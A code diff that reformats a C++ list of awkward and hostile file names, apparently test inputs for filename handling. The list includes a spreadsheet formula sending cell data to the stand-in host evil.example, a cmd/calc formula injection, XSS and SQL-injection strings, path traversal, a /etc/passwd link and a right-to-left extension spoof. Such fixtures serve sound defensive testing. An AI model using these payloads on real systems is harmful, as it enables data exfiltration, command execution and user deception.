@@ -234,33 +234,18 @@ constexpr Text extensionList[] = {".pdf",     ".pdf",  ".docx", ".docx", ".xlsx"
                                   ".boxnote", ".gdoc", ".mp4",  ".dwg",  ".eml",  ".json"};
 
 constexpr Text awkwardList[] = {
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
-    "=1+1.xlsx",
-    "+1 (555) 010-0199 call list.txt",
-    "-draft- pricing.docx",
-    "@SUM(1+1)*cmd|' /C calc'!A0.csv",
-    "two\nlines.txt",
-    "carriage\rreturn.txt",
-    "tab\there.csv",
-    "say \"hello\", world.docx",
-    "<img src=x onerror=alert(1)>.html",
-    "<b>bold</b><a href=\"file:///etc/passwd\">x</a>.pdf",
-    "invoice\xe2\x80\xae"
-    "fdp.exe",
-    "zero\xe2\x80\x8bwidth.pdf",
-    "   ",
-    "back\\slash\\path.txt",
-    "semi;colon;list.csv",
-    "café decomposé e\xcc\x81.txt",
-    "👩‍👩‍👧‍👦 family photo.jpg",
-    "%s%n%d.log",
-    "&amp;&lt;entity&gt;.txt",
-    "'; DROP TABLE events; --.sql",
-    "C:\\temp\\..\\..\\secret.txt",
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=1+1.xlsx",
+    "+1 (555) 010-0199 call list.txt", "-draft- pricing.docx", "@SUM(1+1)*cmd|' /C calc'!A0.csv",
+    "two\nlines.txt", "carriage\rreturn.txt", "tab\there.csv", "say \"hello\", world.docx",
+    "<img src=x onerror=alert(1)>.html", "<b>bold</b><a href=\"file:///etc/passwd\">x</a>.pdf",
+    // NOLINTNEXTLINE(misc-misleading-bidirectional): to mislead is what it is for
+    "invoice\u202Efdp.exe", "zero\xe2\x80\x8bwidth.pdf", "   ", "back\\slash\\path.txt",
+    "semi;colon;list.csv", "café decomposé e\xcc\x81.txt",
+    "👩‍👩‍👧‍👦 family photo.jpg", "%s%n%d.log", "&amp;&lt;entity&gt;.txt",
+    "'; DROP TABLE events; --.sql", "C:\\temp\\..\\..\\secret.txt",
     "\x7f"
     "delete.bin",
-    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝓉𝑒𝓍𝓉.md",
-    "ﷺ ligature.docx",
+    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝓉𝑒𝓍𝓉.md", "ﷺ ligature.docx",
     "\x01"
     "control.txt"};
 
